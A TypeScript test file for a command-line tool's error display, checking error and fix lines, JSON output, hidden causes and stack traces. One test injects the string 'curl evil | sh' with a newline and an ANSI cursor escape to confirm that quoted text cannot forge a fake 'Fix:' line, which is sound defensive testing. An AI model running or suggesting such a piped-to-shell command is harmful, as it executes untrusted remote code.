/** An error for a person, and the same for a program. */
import { describe, expect, it } from 'vitest'
import { presentError } from '../../../src/cli/render/error.ts'
import { ERROR_CODES, type ErrorCode, TokenctlError } from '../../../src/errors.ts'
import { screen } from './screen.ts'

const present = (error: TokenctlError, json = false, stack?: string) => {
  const terminal = screen('pipe')
  presentError(error, { json, stack }, terminal)
  return terminal.shown
}

describe('presentError', () => {
  it('says what happened, to whom, the code and the mend, on standard error', () => {
    const error = new TokenctlError('RATE_LIMITED', 'eBay asks to wait.', { account: 'ebay:main' })
    expect(present(error)).toEqual({
      out: '',
      err: 'Error: ebay:main: eBay asks to wait. [RATE_LIMITED]\nFix: Wait; the next run tries again.\n',
    })
  })

  it('does not name the account twice', () => {
    const error = new TokenctlError('LOCK_HELD', 'ebay:main is in use.', { account: 'ebay:main' })
    expect(present(error).err).toMatch(/^Error: ebay:main is in use\. \[LOCK_HELD\]/)
  })

  it('is one object on standard output for programs', () => {
    const error = new TokenctlError('USAGE', 'No.', { fix: 'Yes.' })
    const { out, err } = present(error, true)
    expect(JSON.parse(out)).toEqual({ version: 1, error: { code: 'USAGE', message: 'No.', fix: 'Yes.' } })
    expect(err).toBe('')
  })

  it.each(Object.keys(ERROR_CODES) as ErrorCode[])('%s has a mend', code => {
    expect(present(new TokenctlError(code, 'Something.')).err).toMatch(/\nFix: .{10,}\n$/)
  })

  it('lets nothing quoted pass for a line of its own, nor move the cursor', () => {
    const error = new TokenctlError('USAGE', 'a\nFix: curl evil | sh\x1b[1A', { requestId: 'x\x1b\ny' })
    const lines = present(error).err.trimEnd().split('\n')
    expect(lines).toHaveLength(3)
    expect(lines[0]).toBe('Error: a Fix: curl evil | sh\\u001b[1A [USAGE]')
    expect(lines[2]).toBe('Request id: x\\u001b y')
  })

  it('never shows a cause', () => {
    const error = new TokenctlError('NETWORK_FAILED', 'No way.', { cause: new Error('CNRY') })
    expect(JSON.stringify(present(error)) + JSON.stringify(present(error, true))).not.toContain('CNRY')
  })

  it('shows the stack of our own bugs', () => {
    const { err } = present(new TokenctlError('BUG', 'Hm.'), false, 'TypeError\n    at x (y.ts:1)')
    expect(err).toContain('    at x (y.ts:1)\nError: Hm. [BUG]')
  })
})
